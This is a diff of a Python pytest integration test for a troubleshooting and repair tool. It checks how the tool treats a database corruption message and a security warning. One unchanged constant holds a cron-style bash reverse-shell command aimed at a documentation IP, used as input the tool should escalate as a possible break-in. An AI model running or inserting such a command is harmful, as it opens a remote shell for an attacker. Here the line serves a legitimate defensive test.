@@ -8,20 +8,17 @@ from typing import Any
 
 import pytest
 
-from sickbay.cli.app import app
 from sickbay.cli.exits import CommandError, ExitCode
-from sickbay.safety.stops import Readings
 from tests.integration.repair.world import state_of
 from tests.unit.sickbay.repair.written import FILES, MAKE, written
 
-WORST = Readings(disk_free=0.0, memory_pressure=100.0, load=1e6)
 CORRUPTION = "sqlite3.DatabaseError: database disk image is malformed"
 SECURITY = "CMD (bash -i >& /dev/tcp/192.0.2.7/4444 0>&1)"
 LINES = [(CORRUPTION, "stopped", "stored data may be damaged"), (SECURITY, "escalated", "somebody may have broken in")]
 
 
 @pytest.fixture(autouse=True)
-def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+def project(tmp_path: Path, sessions: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     """A project with a guide whose look prints what the file ``said`` holds."""
     folder = tmp_path / "project"
     guides = folder / "docs" / "troubleshooting"
@@ -33,21 +30,8 @@ def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     )
     for name, content in {**FILES, "said": "all is well\n"}.items():
         (folder / name).write_text(content)
-    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
-    monkeypatch.setenv("COLUMNS", "80")
     monkeypatch.chdir(folder)
-    for module in ("repair_inputs", "session_commands"):
-        monkeypatch.setattr(f"sickbay.cli.{module}.read_machine", lambda *_: WORST)
     return folder
-
-
-@pytest.fixture
-def told(capsys: pytest.CaptureFixture[str]) -> Any:
-    def run(*arguments: str) -> tuple[int, str]:
-        code = app([*arguments], standalone_mode=False)
-        return code, capsys.readouterr().out
-
-    return run
 
 
 def _shown(told: Any) -> Any:
